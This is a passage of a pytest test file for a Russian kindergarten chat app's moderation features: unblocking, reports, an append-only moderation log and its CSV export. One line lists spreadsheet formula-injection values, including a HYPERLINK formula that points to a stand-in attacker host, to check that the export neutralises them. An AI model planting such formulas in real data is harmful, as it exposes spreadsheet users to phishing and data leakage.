    assert second.post(f"/blocks/{block.id}/object").status_code == 409
    assert count(Objection) == 1
    assert len(log_entries("objection")) == 1

    apology = reload(block).apology_message_id
    for who in (room.third, world.parent, room.second, world.educator):
        shown = page_text(as_user(who).get(f"/chats/{room.chat.id}"))
        assert "Против досрочной разблокировки: 1 человек" in shown
        if who is not room.second:  # (her own name is in her page's header)
            assert "Ольга Сидорова" not in shown
    assert "Вы возразили" in message_html(
        second.get(f"/chats/{room.chat.id}"), db.session.get(Message, apology)
    )
    card = f"/chats/{room.chat.id}/people/{world.parent.id}"
    on_card = page_text(as_user(world.educator).get(card))
    assert "Против досрочной разблокировки: 1 человек" in on_card
    assert "Ольга Сидорова" in on_card
    assert as_user(room.third).get(card).status_code == 404


def test_early_unblock_after_a_quiet_day(world, as_user, room):
    start = utcnow().replace(microsecond=0)
    with time_machine.travel(start, tick=False) as traveller:
        educator = as_user(world.educator)
        block = block_parent(world, room, educator, duration="2w")
        parent = as_user(world.parent)
        too_soon = educator.post(f"/blocks/{block.id}/lift")
        assert too_soon.status_code == 409
        assert "только после извинений" in page_text(too_soon)
        assert apologise(parent, room.chat).status_code == 303
        assert reload(block).objections_until == start + timedelta(hours=24)

        traveller.move_to(start + timedelta(hours=23, minutes=59))
        waiting = educator.post(f"/blocks/{block.id}/lift")
        assert waiting.status_code == 409
        assert "участники могут возразить против досрочной разблокировки" in page_text(waiting)
        assert reload(block).lifted_at is None
        assert post_message(parent, room.chat, "Можно?").status_code == 403
        # a parent lifts nothing
        assert as_user(room.second).post(f"/blocks/{block.id}/lift").status_code == 403

        traveller.move_to(start + timedelta(hours=24))
        card = f"/chats/{room.chat.id}/people/{world.parent.id}"
        assert f'action="/blocks/{block.id}/lift"' in page_text(educator.get(card))
        lifted = educator.post(f"/blocks/{block.id}/lift")
        assert lifted.status_code == 303
        assert lifted.location.endswith(card)
        block = reload(block)
        assert (block.lifted_at, block.lifted_by_id) == (
            start + timedelta(hours=24),
            world.educator.id,
        )
        assert post_message(parent, room.chat, "Спасибо, больше не повторится").status_code == 303
        assert educator.post(f"/blocks/{block.id}/lift").status_code == 409
    (entry,) = log_entries("unblock")
    assert (entry.actor_id, entry.member_id) == (world.educator.id, world.parent.id)


def test_an_objection_keeps_the_block_to_its_end(world, as_user, room):
    start = utcnow().replace(microsecond=0)
    with time_machine.travel(start, tick=False) as traveller:
        educator = as_user(world.educator)
        block = block_parent(world, room, educator)
        parent = as_user(world.parent)
        assert apologise(parent, room.chat).status_code == 303
        assert as_user(room.second).post(f"/blocks/{block.id}/object").status_code == 303
        traveller.move_to(start + timedelta(hours=25))
        # too late to object now
        assert as_user(room.third).post(f"/blocks/{block.id}/object").status_code == 409
        refused = educator.post(f"/blocks/{block.id}/lift")
        assert refused.status_code == 409
        assert "возразил" in page_text(refused)
        assert reload(block).lifted_at is None
        assert post_message(parent, room.chat, "Ну пожалуйста").status_code == 403
        card = page_text(educator.get(f"/chats/{room.chat.id}/people/{world.parent.id}"))
        assert f'action="/blocks/{block.id}/lift"' not in card
        assert re.search(r'<button type="button" disabled[^>]*>Разблокировать досрочно', card)
        assert "Блокировка закончится в свой срок." in card
    assert count(Objection) == 1
    assert log_entries("unblock") == []


# --- 8. reports ----------------------------------------------------------------------------------


def test_a_member_reports_a_message_and_the_moderator_resolves_it(world, as_user, room):
    rude = f.make_message(room.chat, world.parent, RUDE)
    second = as_user(room.second)
    assert second.get(f"/messages/{rude.id}/report").status_code == 200
    reported = second.post(f"/messages/{rude.id}/report", data={"reason": "Грубит"})
    assert reported.status_code == 303
    (report,) = db.session.scalars(select(Report)).all()
    assert (report.reporter_id, report.message_id, report.reason) == (
        room.second.id,
        rude.id,
        "Грубит",
    )
    assert report.resolved_at is None
    assert "Жалоба отправлена" in message_html(second.get(f"/chats/{room.chat.id}"), rude)
    # the reason is optional
    assert as_user(room.third).post(f"/messages/{rude.id}/report").status_code == 303

    educator = as_user(world.educator)
    chat_page = page_text(educator.get(f"/chats/{room.chat.id}"))
    assert re.search(r'<span class="pill" aria-label="новых жалоб">2</span>', chat_page)
    queue = educator.get(f"/chats/{room.chat.id}/reports")
    assert queue.status_code == 200
    assert "Грубит" in page_text(queue) and "Ольга Сидорова" in page_text(queue)
    assert f'action="/reports/{report.id}/resolve"' in page_text(queue)
    for who in (room.second, world.parent):
        assert as_user(who).get(f"/chats/{room.chat.id}/reports").status_code == 403
        assert BADGE not in page_text(as_user(who).get(f"/chats/{room.chat.id}"))

    resolved = educator.post(f"/reports/{report.id}/resolve", data={"resolution": "no_action"})
    assert resolved.status_code == 303
    report = reload(report)
    assert (report.resolution, report.resolved_by_id) == ("no_action", world.educator.id)
    assert reload(rude).deleted_at is None
    assert count(Violation) == 0
    assert "Жалоба: рассмотрено" in message_html(second.get(f"/chats/{room.chat.id}"), rude)
    assert re.search(
        r'aria-label="новых жалоб">1</span>', page_text(educator.get(f"/chats/{room.chat.id}"))
    )
    twice = educator.post(
        f"/reports/{report.id}/resolve", data={"resolution": "deleted", "clause": 2}
    )
    assert twice.status_code == 409
    assert reload(rude).deleted_at is None
    assert reload(report).resolution == "no_action"
    assert [e.action for e in log_entries()] == ["report", "report", "report_resolved"]


def test_report_refusals(world, as_user, room):
    own = f.make_message(room.chat, room.second, "Моё сообщение")
    theirs = f.make_message(room.other_chat, world.other_group_parent, "Из другой группы")
    rude = f.make_message(room.chat, world.parent, RUDE)
    second = as_user(room.second)
    assert second.post(f"/messages/{own.id}/report").status_code == 403
    assert second.post(f"/messages/{theirs.id}/report").status_code == 404
    assert second.post(f"/messages/{rude.id}/report").status_code == 303
    assert second.post(f"/messages/{rude.id}/report", data={"reason": "ещё раз"}).status_code == 409
    # the administration is not a member: it moderates instead of reporting
    assert as_user(world.director).post(f"/messages/{rude.id}/report").status_code == 403
    assert count(Report) == 1
    assert len(log_entries("report")) == 1


@pytest.fixture
def reported(world, as_user, room):
    """The parent's rude message, reported by the second parent."""
    rude = f.make_message(room.chat, world.parent, RUDE)
    assert as_user(room.second).post(f"/messages/{rude.id}/report").status_code == 303
    (report,) = db.session.scalars(select(Report)).all()
    return rude, report


@pytest.mark.parametrize("clause", [None, "", "99"])
@pytest.mark.parametrize("resolution", ["deleted", "violation"])
def test_resolving_by_deletion_or_violation_names_a_clause(
    world, as_user, room, reported, resolution, clause
):
    rude, report = reported
    data = {"resolution": resolution}
    if clause is not None:
        data["clause"] = clause
    refused = as_user(world.educator).post(f"/reports/{report.id}/resolve", data=data)
    assert refused.status_code == 422
    assert field_errors(refused)
    assert reload(report).resolved_at is None
    assert reload(rude).deleted_at is None
    assert count(Violation) == 0
    assert log_entries("report_resolved") == []


@pytest.mark.parametrize("resolution", ["deleted", "violation"])
def test_resolving_by_deletion_or_violation(world, as_user, room, reported, resolution):
    rude, report = reported
    done = as_user(world.educator).post(
        f"/reports/{report.id}/resolve", data={"resolution": resolution, "clause": 3}
    )
    assert done.status_code == 303
    assert reload(report).resolution == resolution
    if resolution == "deleted":
        assert reload(rude).deleted_clause == 3
        assert count(Violation) == 0
    else:
        assert reload(rude).deleted_at is None
        (violation,) = violations_of(room.chat, world.parent)
        assert (violation.clause, violation.message_id) == (3, rude.id)
    (entry,) = log_entries("report_resolved")
    assert (entry.clause, entry.details["resolution"]) == (3, resolution)
    assert "Жалоба: рассмотрено" in message_html(
        as_user(room.second).get(f"/chats/{room.chat.id}"), rude
    )


def test_a_parent_resolves_no_report(world, as_user, room, reported):
    rude, report = reported
    response = as_user(room.third).post(
        f"/reports/{report.id}/resolve", data={"resolution": "no_action"}
    )
    assert response.status_code == 404
    assert reload(report).resolved_at is None


def test_an_unknown_resolution_is_refused(world, as_user, room, reported):
    rude, report = reported
    for value in ("", "ban", "DELETED"):
        response = as_user(world.educator).post(
            f"/reports/{report.id}/resolve", data={"resolution": value, "clause": 2}
        )
        assert response.status_code == 422
    assert reload(report).resolved_at is None
    assert reload(rude).deleted_at is None


# --- 9. the moderation log -----------------------------------------------------------------------


def _busy_log(world, as_user, room) -> dict:
    """A log with a line of most kinds, made through the routes."""
    educator, admin = as_user(world.educator), as_user(world.admin)
    rude = f.make_message(room.chat, world.parent, RUDE)
    another = f.make_message(room.chat, world.parent, "Второе грубое сообщение")
    assert as_user(room.second).post(f"/messages/{another.id}/report").status_code == 303
    (report,) = db.session.scalars(select(Report)).all()
    assert (
        educator.post(
            f"/messages/{rude.id}/remove", data={"clause": 2, "violation": "y"}
        ).status_code
        == 303
    )
    assert educator.post(f"/chats/{room.chat.id}/remind").status_code == 303
    give_violations(room.chat, world.parent, 3, world.educator)
    block = block_parent(world, room, educator)
    assert apologise(as_user(world.parent), room.chat).status_code == 303
    assert as_user(room.second).post(f"/blocks/{block.id}/object").status_code == 303
    assert (
        admin.post(
            f"/chats/{room.chat.id}/people/{room.colleague.id}/moderator", data={"value": "1"}
        ).status_code
        == 303
    )
    return {"message": rude, "block": block, "report": report, "another": another}


def _log_rows():
    table = ModerationEntry.__table__
    return [tuple(row) for row in db.session.execute(select(table).order_by(table.c.id))]


def test_no_route_changes_a_line_of_the_log(app, world, as_user, room):
    made = _busy_log(world, as_user, room)
    before = _log_rows()
    assert {row[4] for row in before} >= {
        "delete",
        "violation",
        "reminder",
        "block",
        "apology",
        "objection",
        "report",
        "moderator",
    }
    first = before[0][0]
    poll = f.make_message(room.chat, world.educator, "Опрос")
    db.session.add(Poll(message_id=poll.id, question="?"))
    db.session.commit()
    known = {
        "chat_id": room.chat.id,
        "message_id": made["another"].id,  # reported, still shown
        "member_id": world.parent.id,
        "block_id": made["block"].id,
        "report_id": made["report"].id,
        "user_id": world.educator.id,
        "child_id": world.child.id,
        "group_id": world.group.id,
        "poll_id": db.session.scalar(select(Poll.id)),
    }
    variants = [
        known,
        {**known, "message_id": made["message"].id},  # the deleted one, which the log shows
        dict.fromkeys(known, first),  # a log line's own id in every place
    ]
    answers = {}
    for rule in sorted(app.url_map.iter_rules(), key=_moderation_first):
        urls = {_url(app, rule, ids) for ids in variants}
        for method in sorted(rule.methods - {"GET", "HEAD", "OPTIONS"}):
            for url in sorted(urls):
                try:
                    response = as_user(world.director).open(url, method=method, data={})
                    answers[(method, url)] = response.status_code
                    response.close()
                except Exception as error:  # noqa: BLE001 - reported below
                    db.session.rollback()
                    answers[(method, url)] = repr(error)
    after = _log_rows()
    assert after[: len(before)] == before, "a route changed a line of the moderation log"
    assert len(after) >= len(before)
    crashed = {k: v for k, v in answers.items() if not isinstance(v, int) or v >= 500}
    assert crashed == {}, "routes that failed on an empty form"


def _moderation_first(rule) -> int:
    """Moderation's routes while the chat is as the log left it, then the chats', then the rest
    (an empty form to the administration's routes may take the parent out of the chat)."""
    if rule.endpoint.startswith("moderation."):
        return 0
    return 1 if rule.endpoint.startswith(("messages.", "chats.", "rules.")) else 2


def _url(app, rule, ids) -> str:
    """The rule's URL with these ids for its integer parts ("x" for a token)."""
    values = {
        name: ids.get(name, ids["chat_id"])
        if isinstance(rule._converters[name], IntegerConverter)
        else "x"
        for name in rule.arguments
    }
    with app.test_request_context():
        return url_for(rule.endpoint, **values)


def test_the_database_refuses_to_update_a_line_of_the_log(world, as_user, room):
    _busy_log(world, as_user, room)
    before = _log_rows()
    entry = db.session.scalars(select(ModerationEntry).order_by(ModerationEntry.id)).first()
    entry.note = "исправлено задним числом"
    with pytest.raises(DBAPIError, match="append-only"):
        db.session.commit()
    db.session.rollback()
    with pytest.raises(DBAPIError, match="append-only"):
        db.session.execute(update(ModerationEntry).values(clause=1))
        db.session.commit()
    db.session.rollback()
    assert _log_rows() == before


@pytest.fixture
def dated_log(world, as_user, room):
    """Three lines on known days (Moscow): a violation late on 1 March, a deletion just after
    midnight on 2 March (still 1 March in UTC), and a reminder in the other chat on 5 March."""
    rude = f.make_message(room.chat, room.second, RUDE)
    moments = [
        datetime(2027, 3, 1, 20, 30, tzinfo=UTC),  # 23:30 on 1 March in Moscow
        datetime(2027, 3, 1, 21, 30, tzinfo=UTC),  # 00:30 on 2 March in Moscow
        datetime(2027, 3, 5, 7, 0, tzinfo=UTC),
    ]
    with time_machine.travel(moments[0], tick=False):
        assert (
            as_user(world.educator)
            .post(f"/chats/{room.chat.id}/people/{world.parent.id}/violation", data={"clause": 2})
            .status_code
            == 303
        )
    with time_machine.travel(moments[1], tick=False):
        assert (
            as_user(world.director)
            .post(f"/messages/{rude.id}/remove", data={"clause": 3})
            .status_code
            == 303
        )
    with time_machine.travel(moments[2], tick=False):
        assert (
            as_user(world.other_educator).post(f"/chats/{room.other_chat.id}/remind").status_code
            == 303
        )
    violation, deletion, reminder = log_entries()
    assert [e.action for e in (violation, deletion, reminder)] == [
        "violation",
        "delete",
        "reminder",
    ]
    return violation.id, deletion.id, reminder.id


def test_the_log_filters(world, as_user, room, dated_log):
    violation, deletion, reminder = dated_log
    director = as_user(world.director)
    cases = {
        "": {violation, deletion, reminder},
        f"chat={room.chat.id}": {violation, deletion},
        f"chat={room.other_chat.id}": {reminder},
        f"actor={world.educator.id}": {violation},
        f"actor={world.director.id}": {deletion},
        f"member={room.second.id}": {deletion},
        f"member={world.parent.id}": {violation},
        "action=reminder": {reminder},
        "action=delete": {deletion},
        "since=2027-03-02": {deletion, reminder},
        "until=2027-03-01": {violation},
        "since=01.03.2027&until=01.03.2027": {violation},
        "since=2027-03-02&until=2027-03-04": {deletion},
        "since=2027-03-06": set(),
        f"chat={room.chat.id}&action=violation&since=2027-03-01&until=2027-03-01": {violation},
    }
    for query, expected in cases.items():
        response = director.get(f"/moderation/log?{query}")
        assert response.status_code == 200, query
        assert log_ids(response) == expected, query
    # a chat's own log stays in its chat whatever is asked
    educator = as_user(world.educator)
    assert log_ids(educator.get(f"/chats/{room.chat.id}/log")) == {violation, deletion}
    own = educator.get(f"/chats/{room.chat.id}/log?chat={room.other_chat.id}")
    assert log_ids(own) == {violation, deletion}
    assert log_ids(educator.get(f"/chats/{room.chat.id}/log?action=delete")) == {deletion}
    assert as_user(world.other_educator).get(f"/chats/{room.chat.id}/log").status_code == 404


@pytest.mark.parametrize(
    "query",
    [
        "since=2027-02-30",
        "since=завтра",
        "until=2027-13-01",
        "since=2027-03-05&until=2027-03-01",
        "since=%00",
    ],
)
def test_a_malformed_log_filter_is_told_in_russian(world, as_user, room, dated_log, query):
    response = as_user(world.director).get(f"/moderation/log?{query}")
    assert response.status_code == 422
    errors = field_errors(response)
    assert errors and all(re.search("[а-яё]", e, re.I) for e in errors), errors
    assert log_ids(response) == set()
    csv_answer = as_user(world.director).get(f"/moderation/log.csv?{query}")
    assert csv_answer.status_code in (400, 422)
    chat_log = as_user(world.educator).get(f"/chats/{room.chat.id}/log?{query}")
    assert chat_log.status_code == 422
    # nothing broke: the log still answers
    assert len(log_ids(as_user(world.director).get("/moderation/log"))) == 3


FORMULAS = ['=HYPERLINK("http://evil.example/?x";"Жми")', "@cmd", "+1", "-2"]


def _csv_rows(response) -> list[list[str]]:
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_the_log_csv_is_safe_against_formulas(world, as_user, room):
    people = []
    for name in FORMULAS:
        person = f.make_parent(world.kindergarten, name)
        join(room.chat, person)
        people.append(person)
    educator = as_user(world.educator)
    for person in people:
        response = educator.post(
            f"/chats/{room.chat.id}/people/{person.id}/violation",
            data={"clause": 2, "note": "=1+2"},
        )
        assert response.status_code == 303
    f.make_message(room.other_chat, world.other_group_parent, "x")
    assert (
        as_user(world.other_educator).post(f"/chats/{room.other_chat.id}/remind").status_code == 303
    )

    whole = as_user(world.director).get("/moderation/log.csv")
    chat_only = educator.get(f"/chats/{room.chat.id}/log.csv")
    for response, lines in ((whole, 5), (chat_only, 4)):
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        assert response.headers["Content-Disposition"].startswith("attachment")
        rows = _csv_rows(response)
        header, body = rows[0], rows[1:]
        assert "Участник" in header and "Комментарий" in header
        assert len(body) == lines
        members = {row[header.index("Участник")] for row in body}
        assert {"'" + name for name in FORMULAS} <= members
        assert all(row[header.index("Комментарий")] in ("'=1+2", "") for row in body)
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), cell
    assert "Родители группы «Капелька»" in whole.get_data(as_text=True)
    assert "Родители группы «Капелька»" not in chat_only.get_data(as_text=True)


def test_the_kindergarten_log_is_for_the_director_and_the_admin(world, as_user, room):
    for persona in (world.parent, world.educator, world.other_educator, room.colleague):
        client = as_user(persona)
        assert client.get("/moderation/log").status_code == 403
        assert client.get("/moderation/log.csv").status_code == 403
    for persona in (world.parent, room.colleague):
        assert as_user(persona).get(f"/chats/{room.chat.id}/log").status_code == 403
        assert as_user(persona).get(f"/chats/{room.chat.id}/log.csv").status_code == 403
    for persona in (world.admin, world.director):
        assert as_user(persona).get("/moderation/log").status_code == 200
        assert as_user(persona).get("/moderation/log.csv").status_code == 200
    assert as_user(None).get("/moderation/log").status_code == 302


# --- 10. refused attempts are written to the application log ------------------------------------


def test_refused_attempts_are_logged_without_message_text(world, as_user, room, caplog):
    rude = f.make_message(room.chat, world.parent, RUDE)
    give_violations(room.chat, world.parent, 3, world.educator)
    educator = as_user(world.educator)
    with caplog.at_level(logging.WARNING):
        assert block_request(educator, room.chat, world.parent).status_code == 409
    refused = [r.getMessage() for r in caplog.records if "moderation refused" in r.getMessage()]
    assert len(refused) == 1
    assert "block" in refused[0] and f"user {world.educator.id}" in refused[0]
    assert "трёх раз" in refused[0]

    caplog.clear()
    with caplog.at_level(logging.WARNING):
        assert educator.post(f"/messages/{rude.id}/remove", data={"clause": 2}).status_code == 303
        assert educator.post(f"/messages/{rude.id}/remove", data={"clause": 2}).status_code == 409
        assert as_user(world.parent).post(f"/chats/{room.chat.id}/remind").status_code == 403
        assert (
            as_user(room.second)
            .post(f"/chats/{room.chat.id}/apology", data={"text": RUDE})
            .status_code
            == 409
        )
    refused = [r.getMessage() for r in caplog.records if "moderation refused" in r.getMessage()]
    assert any("delete" in line for line in refused)
    assert any("reminder" in line for line in refused)
    assert any("apology" in line for line in refused)
    assert RUDE not in caplog.text


# --- 11. on a phone: the «⋯» menu of a message ----------------------------------------------------


def test_the_moderator_reaches_every_action_from_the_message(world, as_user, room):
    rude = f.make_message(room.chat, world.parent, RUDE)
    by_colleague = f.make_message(room.chat, room.colleague, "Напоминаю про утренник")
    own = f.make_message(room.chat, world.educator, "Моё объявление")
    page = as_user(world.educator).get(f"/chats/{room.chat.id}")
    menu = message_html(page, rude)
    assert '<details class="msg-menu">' in menu  # one tap opens it, one more picks the action
    assert f'href="/messages/{rude.id}/remove"' in menu
    assert f'href="/messages/{rude.id}/violation"' in menu
    assert re.search(
        rf'action="/chats/{room.chat.id}/remind">\s*<input[^>]*csrf_token[^>]*>\s*'
        rf'<input type="hidden" name="member" value="{world.parent.id}">',
        menu,
    )
    assert f'href="/chats/{room.chat.id}/people/{world.parent.id}"' in menu
    for staff_message in (by_colleague, own):  # an educator does not moderate staff
        other = message_html(page, staff_message)
        assert "/remove" not in other and "/violation" not in other
    # the remind button for the whole chat, the reports and the log are at the top
    assert f'action="/chats/{room.chat.id}/remind"' in page_text(page).split("<ol")[0]
    # the action page that opens has the clauses to pick
    action = page_text(as_user(world.educator).get(f"/messages/{rude.id}/remove"))
    assert all(f'value="{n}"' in action for n in range(1, 10))


def test_a_parent_s_menu_reports_and_does_not_moderate(world, as_user, room):
    rude = f.make_message(room.chat, world.parent, RUDE)
    own = f.make_message(room.chat, room.second, "Моё сообщение")
    page = as_user(room.second).get(f"/chats/{room.chat.id}")
    menu = message_html(page, rude)
    assert f'href="/messages/{rude.id}/report"' in menu
    for link in ("/remove", "/violation", "/remind", "/people/"):
        assert link not in menu
    assert f"/messages/{own.id}/report" not in message_html(page, own)
    assert "/remind" not in page_text(page)
    assert "Журнал модерации" not in page_text(page)
    # once reported, the menu no longer offers it, and the message says so
    assert as_user(room.second).post(f"/messages/{rude.id}/report").status_code == 303
    again = message_html(as_user(room.second).get(f"/chats/{room.chat.id}"), rude)
    assert f"/messages/{rude.id}/report" not in again
    assert "Жалоба отправлена" in again


# --- what a review found: each of these was possible once ----------------------------------------


def test_nobody_reads_a_deleted_message_through_the_moderation_pages(world, as_user, room):
    secret = f.make_message(room.chat, world.parent, "Телефон мамы Миши +79161234567")
    educator = as_user(world.educator)
    assert educator.post(f"/messages/{secret.id}/remove", data={"clause": 4}).status_code == 303
    for who in (room.second, world.parent):
        for action in ("remove", "violation"):
            page = as_user(who).get(f"/messages/{secret.id}/{action}")
            assert page.status_code == 403
            assert "+79161234567" not in page_text(page)
    again = educator.get(f"/messages/{secret.id}/remove")  # the moderator: 409, quoted without it
    assert again.status_code == 409
    assert "+79161234567" not in page_text(again)
    assert "+79161234567" in page_text(educator.get(f"/chats/{room.chat.id}/log"))


def test_two_blocks_at_the_same_moment_make_one(world, app, room):
    import threading

    give_violations(room.chat, world.parent, 4, world.educator)
    clients = [app.test_client() for _ in range(2)]
    from .conftest import sign_in

    for client, who in zip(clients, (world.educator, world.director), strict=True):
        sign_in(client, who)
    start = threading.Barrier(2)
    answers = []
    url = f"/chats/{room.chat.id}/people/{world.parent.id}/block"  # no database in the threads

    def block(client):
        start.wait()
        answers.append(client.post(url, data={"duration": "1w", "clause": 2}).status_code)

    threads = [threading.Thread(target=block, args=(c,)) for c in clients]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(answers) == [303, 409]
    db.session.commit()  # the threads' requests did not sync the test's session
    assert count(Block, Block.chat_id == room.chat.id) == 1


def test_a_block_uses_up_its_violations(world, as_user, room):
    educator = as_user(world.educator)
    with time_machine.travel(utcnow(), tick=False) as traveller:
        block = block_parent(world, room, educator, duration="1d")
        traveller.shift(timedelta(days=1, seconds=1))
        assert not block_of(room.chat, world.parent).is_active()
        # the same four violations do not carry a second block
        refused = block_request(educator, room.chat, world.parent)
        assert refused.status_code == 409
        assert "нарушения до прошлой блокировки не считаются" in page_text(refused)
        card = page_text(educator.get(f"/chats/{room.chat.id}/people/{world.parent.id}"))
        assert "Сейчас: 0 нарушений" in card
        traveller.shift(timedelta(minutes=1))
        give_violations(room.chat, world.parent, 4, world.educator)
        assert block_request(educator, room.chat, world.parent).status_code == 303
    assert count(Block, Block.user_id == world.parent.id) == 2
    assert block.id is not None


def test_one_message_is_one_violation(world, as_user, room):
    rude = f.make_message(room.chat, world.parent, RUDE)
    educator = as_user(world.educator)
    url = f"/messages/{rude.id}/violation"
    assert educator.post(url, data={"clause": 2}).status_code == 303
    twice = educator.post(url, data={"clause": 3})
    assert twice.status_code == 409
    assert "нарушение уже записано" in page_text(twice)
    # deleting it afterwards with «violation» ticked does not count it again
    assert (
        educator.post(f"/messages/{rude.id}/remove", data={"clause": 2, "violation": "y"})
    ).status_code == 303
    assert count(Violation, Violation.user_id == world.parent.id) == 1


def test_a_blocked_co_moderator_does_not_moderate(world, as_user, room):
    director = as_user(world.director)
    assert (
        director.post(
            f"/chats/{room.chat.id}/people/{room.colleague.id}/moderator", data={"value": "1"}
        ).status_code
        == 303
    )
    give_violations(room.chat, room.colleague, 4, world.director)
    assert block_request(director, room.chat, room.colleague).status_code == 303
    colleague = as_user(room.colleague)
    rude = f.make_message(room.chat, world.parent, RUDE)
    assert colleague.post(f"/chats/{room.chat.id}/remind").status_code == 403
    assert colleague.get(f"/messages/{rude.id}/remove").status_code == 403
    assert colleague.get(f"/chats/{room.chat.id}/people/{room.colleague.id}").status_code == 404
    assert colleague.get(f"/chats/{room.chat.id}/log").status_code == 403


def test_apologies_and_reminders_are_not_moderated(world, as_user, room):
    educator = as_user(world.educator)
    block_parent(world, room, educator)
    assert as_user(world.parent).post(
        f"/chats/{room.chat.id}/apology", data={"text": "Простите"}
    ).status_code in (302, 303)
    apology = db.session.scalar(select(Message).where(Message.kind == "apology"))
    assert educator.post(f"/chats/{room.chat.id}/remind").status_code == 303
    reminder = db.session.scalar(select(Message).where(Message.kind == "reminder"))
    director = as_user(world.director)
    for message in (apology, reminder):
        for action in ("remove", "violation"):
            assert director.get(f"/messages/{message.id}/{action}").status_code == 403
            assert (
                director.post(f"/messages/{message.id}/{action}", data={"clause": 2}).status_code
                == 403
            )
    assert reload(apology).deleted_at is None


def test_what_an_author_deleted_is_gone_for_the_moderators_too(world, as_user, room):
    parent = as_user(world.parent)
    assert (
        post_message(parent, room.chat, "Фото", files=[(io.BytesIO(jpeg_bytes()), "я.jpg")])
    ).status_code == 303
    (message,) = message_by(room.chat, world.parent)
    photo = db.session.scalar(select(Attachment).where(Attachment.message_id == message.id))
    assert parent.post(f"/messages/{message.id}/delete").status_code == 303
    for who in (world.parent, world.educator, world.director):
        assert as_user(who).get(f"/files/{photo.id}").status_code == 404


def test_who_names_and_withdraws_co_moderators(world, as_user, room):
    unverified = f.make_staff(world.kindergarten, "Новенькая Педагог", verified=False)
    join(room.chat, unverified)
    url = f"/chats/{room.chat.id}/people/{{}}/moderator"
    educator = as_user(world.educator)
    assert educator.post(url.format(unverified.id), data={"value": "1"}).status_code == 403
    assert educator.post(url.format(room.colleague.id), data={"value": "1"}).status_code == 303
    colleague = as_user(room.colleague)
    # a co-moderator does not withdraw the chat's creator, but may step down
    assert colleague.post(url.format(world.educator.id), data={"value": "0"}).status_code == 403
    assert colleague.post(url.format(room.colleague.id), data={"value": "0"}).status_code == 303
    member = db.session.get(ChatMember, (room.chat.id, room.colleague.id))
    db.session.refresh(member)
    assert not member.is_moderator


def test_a_report_about_a_moderators_own_message_is_for_the_others(world, as_user, room):
    own = f.make_message(room.chat, world.educator, "Собрание в пятницу")
    assert as_user(world.parent).post(f"/messages/{own.id}/report").status_code == 303
    report = db.session.scalar(select(Report).where(Report.message_id == own.id))
    educator = as_user(world.educator)
    queue = page_text(educator.get(f"/chats/{room.chat.id}/reports"))
    assert "Жалоба на ваше сообщение" in queue
    assert f"/reports/{report.id}/resolve" not in queue
    answer = educator.post(f"/reports/{report.id}/resolve", data={"resolution": "no_action"})
    assert answer.status_code == 403
    assert reload(report).resolved_at is None
    # a colleague moderator sees only «без мер» for a staff member's message; the director acts
    colleague_queue = page_text(as_user(world.director).get(f"/chats/{room.chat.id}/reports"))
    assert 'value="deleted"' in colleague_queue
    assert (
        as_user(world.director)
        .post(f"/reports/{report.id}/resolve", data={"resolution": "no_action"})
        .status_code
        == 303
    )


def test_objecting_before_any_apology_says_so(world, as_user, room):
    block = block_parent(world, room, as_user(world.educator))
    answer = as_user(room.second).post(f"/blocks/{block.id}/object")
    assert answer.status_code == 409
    assert "когда участник принесёт извинения" in page_text(answer)  # the chat, and why


def test_the_administration_sets_the_window_for_objections(world, as_user, room, admin_client):
    for bad in ("0", "169", "сутки", ""):
        refused = admin_client.post("/admin/moderation", data={"hours": bad})
        assert refused.status_code == 422
        assert field_errors(refused)
        assert "Общаемся вежливо" in page_text(refused)  # the rules' text is still on the page
    assert reload(world.kindergarten).apology_hours == 24
    assert admin_client.post("/admin/moderation", data={"hours": "48"}).status_code == 303
    assert reload(world.kindergarten).apology_hours == 48
    block = block_parent(world, room, as_user(world.educator))
    with time_machine.travel(utcnow(), tick=False):
        assert apologise(as_user(world.parent), room.chat).status_code in (302, 303)
        block = reload(block)
        assert block.objections_until - block.apology_at == timedelta(hours=48)
